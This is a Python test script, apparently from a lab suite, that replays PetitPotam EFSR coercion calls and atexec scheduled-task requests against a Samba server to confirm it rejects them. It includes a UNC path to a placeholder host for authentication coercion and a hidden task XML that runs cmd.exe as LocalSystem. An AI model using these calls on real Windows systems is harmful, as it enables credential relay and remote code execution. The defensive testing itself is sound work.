"""Capture 56: EFSR (PetitPotam) and TSCH (atexec) against Samba, which serves
neither. As the lab user:
  1. \\pipe\\efsrpc (EFSR df1941c5 1.0), PetitPotam's first choice: the SMB
     CREATE fails with STATUS_OBJECT_NAME_NOT_FOUND.
  2. \\pipe\\lsarpc with EFSR c681d488 1.0 in the bind, PetitPotam's second:
     bind_ack with the context rejected (abstract syntax not supported).
  3. \\pipe\\lsarpc bound to LSARPC, then an alter_context for EFSR (ctx 1) and
     one for TSCH (ctx 2), both rejected. The requests go out on the rejected
     contexts anyway, with the parameters the attack tools send: EfsRpcOpenFileRaw
     and EfsRpcEncryptFileSrv with a UNC path to 10.0.0.99 (which does not
     exist), SchRpcRegisterTask with atexec's task XML, SchRpcRun and
     SchRpcDelete. Samba answers each with a fault, and the association keeps
     working: LsarOpenPolicy2 and LsarClose on ctx 0 follow.
  4. \\pipe\\atsvc, atexec's pipe: CREATE fails like 1.
"""
from impacket.dcerpc.v5 import lsad, lsat, transport, tsch
from impacket.dcerpc.v5.dtypes import NULL, ULONG, WSTR
from impacket.dcerpc.v5.ndr import NDRCALL
from impacket.dcerpc.v5.rpcrt import DCERPC_v5, DCERPCException
from impacket.smbconnection import SessionError
from impacket.uuid import uuidtup_to_bin

import lab
from outcomes import NCA_UNK_IF, OK, STATUS_OBJECT_NAME_NOT_FOUND, expect, finish, np

EFSR_LSARPC = uuidtup_to_bin(("c681d488-d850-11d0-8c52-00c04fd90f7e", "1.0"))
EFSR_EFSRPC = uuidtup_to_bin(("df1941c5-fe89-4e79-bf10-463657acf44d", "1.0"))
UNC = "\\\\10.0.0.99\\share\\rpcscope.txt"
TASK = "\\Rpcscope"
TASK_XML = """<?xml version="1.0" encoding="UTF-16"?>
<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
  <Principals>
    <Principal id="LocalSystem">
      <UserId>S-1-5-18</UserId>
      <RunLevel>HighestAvailable</RunLevel>
    </Principal>
  </Principals>
  <Settings>
    <Enabled>true</Enabled>
    <Hidden>true</Hidden>
  </Settings>
  <Actions Context="LocalSystem">
    <Exec>
      <Command>cmd.exe</Command>
      <Arguments>/C whoami &gt; %windir%\\Temp\\rpcscope.tmp 2&gt;&amp;1</Arguments>
    </Exec>
  </Actions>
</Task>
"""


class EfsRpcOpenFileRaw(NDRCALL):        # MS-EFSR 3.1.4.2.1, as PetitPotam declares it
    opnum = 0
    structure = (("FileName", WSTR), ("Flags", ULONG))


class EfsRpcEncryptFileSrv(NDRCALL):     # MS-EFSR 3.1.4.2.5
    opnum = 4
    structure = (("FileName", WSTR),)


def no_pipe(pipe, iface):
    """Open \\pipe\\PIPE as impacket's tools do; the CREATE must fail."""
    def attempt():
        try:
            np(pipe, iface)
        except SessionError as exc:
            raise DCERPCException(error_code=exc.getErrorCode())
    expect("SMB CREATE \\pipe\\%s" % pipe, attempt, STATUS_OBJECT_NAME_NOT_FOUND)


def rejected_bind(pipe, iface, what):
    """Bind iface on \\pipe\\PIPE; the context must be rejected."""
    try:
        np(pipe, iface)
    except DCERPCException as exc:
        if "abstract_syntax_not_supported" in str(exc):
            lab.say("   %-58s rejected: %s" % (what, exc))
            return
        raise
    raise SystemExit("%s: bind accepted" % what)


def rejected_context(dce, iface, ctx_id, what):
    """An alter_context for iface as context ctx_id on dce's association; it
    must be rejected. Returns a DCERPC_v5 that sends on that context anyway."""
    other = DCERPC_v5(dce.get_rpc_transport())
    other.set_ctx_id(ctx_id)
    other._DCERPC_v5__callid = dce._DCERPC_v5__callid
    try:
        other.bind(iface, alter=1)
    except DCERPCException as exc:
        if "abstract_syntax_not_supported" not in str(exc):
            raise
        lab.say("   %-58s rejected: %s" % (what, exc))
    else:
        raise SystemExit("%s: alter_context accepted" % what)
    other._DCERPC_v5__max_xmit_size = dce._DCERPC_v5__max_xmit_size
    return other


# 1. and 2. PetitPotam's pipes
no_pipe("efsrpc", EFSR_EFSRPC)
rejected_bind("lsarpc", EFSR_LSARPC, "bind EFSR c681d488 on \\pipe\\lsarpc")

# 3. requests on rejected contexts
dce = np("lsarpc", lsat.MSRPC_UUID_LSAT)
efs = rejected_context(dce, EFSR_LSARPC, 1, "alter_context EFSR c681d488 as ctx 1")


def efs_call(request):
    return lambda: efs.request(request)


open_raw = EfsRpcOpenFileRaw()
open_raw["FileName"] = UNC + "\x00"
open_raw["Flags"] = 0
expect("EfsRpcOpenFileRaw " + UNC, efs_call(open_raw), NCA_UNK_IF)
encrypt = EfsRpcEncryptFileSrv()
encrypt["FileName"] = UNC + "\x00"
expect("EfsRpcEncryptFileSrv " + UNC, efs_call(encrypt), NCA_UNK_IF)

sch = rejected_context(dce, tsch.MSRPC_UUID_TSCHS, 2, "alter_context TSCH 86d35949 as ctx 2")
expect("SchRpcRegisterTask %s (atexec's XML)" % TASK,
       lambda: tsch.hSchRpcRegisterTask(sch, TASK, TASK_XML, tsch.TASK_CREATE, NULL,
                                        tsch.TASK_LOGON_NONE), NCA_UNK_IF)
expect("SchRpcRun " + TASK, lambda: tsch.hSchRpcRun(sch, TASK), NCA_UNK_IF)
expect("SchRpcDelete " + TASK, lambda: tsch.hSchRpcDelete(sch, TASK), NCA_UNK_IF)

policy = expect("LsarOpenPolicy2 on ctx 0", lambda: lsad.hLsarOpenPolicy2(dce))["PolicyHandle"]
expect("LsarClose", lambda: lsad.hLsarClose(dce, policy))
dce.disconnect()

# 4. atexec's pipe
no_pipe("atsvc", tsch.MSRPC_UUID_TSCHS)
finish()
